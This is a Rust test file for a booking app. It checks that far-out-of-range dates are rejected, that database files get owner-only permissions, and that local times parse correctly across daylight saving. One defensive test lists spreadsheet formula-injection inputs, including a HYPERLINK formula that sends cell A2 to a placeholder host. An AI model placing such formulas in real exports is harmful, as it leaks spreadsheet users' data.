//! Times at the ends of chrono's range, spans of centuries and dates of the year 262142 are
//! refused at the edge with a clear code, before any calendar work; the calendar maths never
//! panics on them; and the store goes on working after it refused them.

mod common;

use chrono::{DateTime, Duration, NaiveDate, Utc};
use common::{count, district, now};
use incubook::availability::Days;
use incubook::domain::{Blackout, BlackoutWhen, DateOverride, OverrideKind};
use incubook::interval::Span;
use incubook::store::{BlackoutMode, NewBooking, local_range};

fn far(text: &str) -> DateTime<Utc> {
    text.parse().unwrap_or_else(|e| panic!("{text}: {e}"))
}

fn code<T: std::fmt::Debug>(result: incubook::Result<T>) -> String {
    match result {
        Err(e) => e.code(),
        Ok(v) => panic!("expected an error, got {v:?}"),
    }
}

#[test]
fn the_calendar_maths_covers_nothing_rather_than_overflowing_at_the_ends_of_time() {
    let tz = chrono_tz::America::New_York;
    for span in [
        Span::new(i64::MIN, i64::MAX),
        Span::new(far("+262142-12-30T00:00:00Z").timestamp(), far("+262142-12-31T00:00:00Z").timestamp()),
        Span::new(far("-262143-01-02T00:00:00Z").timestamp(), far("-262143-01-03T00:00:00Z").timestamp()),
    ] {
        let days = Days::covering(tz, span);
        assert!(days.days.len() < 30, "{span:?} gave {} days", days.days.len());
    }
    let week = Days::covering(tz, Span::new(now().timestamp(), now().timestamp() + 3600));
    assert_eq!(week.days.len() % 7, 0, "whole weeks still");
    let last = NaiveDate::from_ymd_opt(262_142, 12, 31).unwrap_or_default();
    assert_eq!(code(local_range(tz, last, last)), "invalid.from");
    assert_eq!(code(incubook::domain::parse_date("from", "+262142-12-01")), "invalid.from");
    assert!(incubook::domain::parse_date("from", "2026-12-01").is_ok());
}

#[test]
fn bookings_blackouts_and_overrides_far_from_now_are_refused_and_the_store_goes_on() {
    let mut d = district();
    let (founder, equipment, manager) = (d.founders[0].clone(), d.equipment.clone(), d.manager.clone());
    let booking = |start: DateTime<Utc>, end: DateTime<Utc>| NewBooking {
        format: None,
        resource_id: equipment.clone(),
        start,
        end,
        topic: String::new(),
    };
    let cases = [
        (far("+262142-12-30T00:00:00Z"), far("+262142-12-31T00:00:00Z"), "invalid.start"),
        (far("-262143-01-02T00:00:00Z"), far("-262143-01-03T00:00:00Z"), "invalid.start"),
        (now() + Duration::days(1), far("+12026-01-01T00:00:00Z"), "invalid.end"),
        // Inside the window but longer than any resource may allow.
        (now() + Duration::days(1), now() + Duration::days(9), "invalid.end"),
    ];
    for (start, end, expected) in cases {
        assert_eq!(code(d.store.book(&founder, &booking(start, end), now())), expected, "{start} – {end}");
    }
    let blackout =
        |id: &str, when: BlackoutWhen| Blackout { id: id.into(), resource_id: equipment.clone(), when, reason: String::new() };
    let whole_range = blackout("b1", BlackoutWhen::Once { start: i64::MIN, end: i64::MAX });
    assert_eq!(code(d.store.add_blackout_with_id(&manager, &whole_range, BlackoutMode::CancelBookings, now())), "invalid.start");
    let from = NaiveDate::from_ymd_opt(262_142, 1, 1).unwrap_or_default();
    let weekly = blackout("b2", BlackoutWhen::Weekly { weekday: 0, start_min: 0, end_min: 60, from, until: None });
    assert_eq!(code(d.store.add_blackout_with_id(&manager, &weekly, BlackoutMode::CancelBookings, now())), "invalid.from");
    let day = DateOverride { date: from, kind: OverrideKind::Extra, start_min: 0, end_min: 60 };
    assert_eq!(code(d.store.add_date_override(&manager, &equipment, &day, "", now())), "invalid.date");
    let expiry = Some(far("+262142-12-31T00:00:00Z"));
    assert_eq!(code(d.store.grant_qualification(&manager, &founder, &equipment, expiry, now())), "invalid.expires_at");
    assert_eq!(count(&d.store, "booking"), 0);
    assert_eq!(count(&d.store, "blackout"), 0);

    // A blackout of a year and a booking a week ahead still go through.
    let year =
        blackout("b3", BlackoutWhen::Once { start: now().timestamp() + 86_400 * 60, end: now().timestamp() + 86_400 * 400 });
    assert!(d.store.add_blackout_with_id(&manager, &year, BlackoutMode::CancelBookings, now()).is_ok());
    assert_eq!(count(&d.store, "blackout"), 1);
}

#[test]
fn report_cells_from_other_makerspaces_cannot_become_formulas() {
    use incubook::report::excel_safe;
    for risky in ["=HYPERLINK(\"http://x/?\"&A2,\"点我\")", "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"] {
        assert_eq!(excel_safe(risky), format!("'{risky}"));
    }
    for plain in ["导师 张三", "-12.5", "+3", "0", ""] {
        assert_eq!(excel_safe(plain), plain);
    }
}

/// The database holds contact details and the sign-in token: other local users cannot read
/// it, its log or the directory made for it — nor an older file, once the app opens it.
#[cfg(unix)]
#[test]
fn the_database_and_its_directory_are_the_owners_alone() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let mode = |p: &std::path::Path| std::fs::metadata(p).map(|m| m.permissions().mode() & 0o777).unwrap_or(0);
    let path = dir.path().join("fresh").join("incubook.db");
    let mut store = incubook::store::Store::open(&path).unwrap_or_else(|e| panic!("{e}"));
    store.set_setting("lang", "zh").unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(mode(&path), 0o600);
    assert_eq!(mode(&dir.path().join("fresh").join("incubook.db-wal")), 0o600);
    assert_eq!(mode(&dir.path().join("fresh")), 0o700);
    drop(store);
    let old = dir.path().join("old.db");
    std::fs::write(&old, b"").unwrap_or_else(|e| panic!("{e}"));
    std::fs::set_permissions(&old, std::fs::Permissions::from_mode(0o644)).unwrap_or_else(|e| panic!("{e}"));
    drop(incubook::store::Store::open(&old).unwrap_or_else(|e| panic!("{e}")));
    assert_eq!(mode(&old), 0o600);
}

/// A typed local time: read in the zone given, the first pass of a repeated hour, refused
/// inside the hour the clocks skip; RFC 3339 as it is.
#[test]
fn a_typed_local_time_is_read_in_its_zone_across_dst() {
    use incubook::domain::parse_local_instant;
    let ny = chrono_tz::America::New_York;
    let at = |text: &str| parse_local_instant("start", text, ny);
    assert_eq!(at("2027-03-13 09:00").ok(), Some(far("2027-03-13T14:00:00Z").timestamp()));
    assert_eq!(at("2027-03-15T09:00").ok(), Some(far("2027-03-15T13:00:00Z").timestamp()));
    assert_eq!(at("2027-11-07 01:30").ok(), Some(far("2027-11-07T05:30:00Z").timestamp()), "the first 01:30");
    assert_eq!(at("2027-03-14 02:30").err().map(|e| e.code()).as_deref(), Some("invalid.start"), "skipped");
    assert_eq!(at("2027-03-14T07:30:00Z").ok(), Some(far("2027-03-14T07:30:00Z").timestamp()));
    assert_eq!(at("+262142-01-01 09:00").err().map(|e| e.code()).as_deref(), Some("invalid.start"));
}
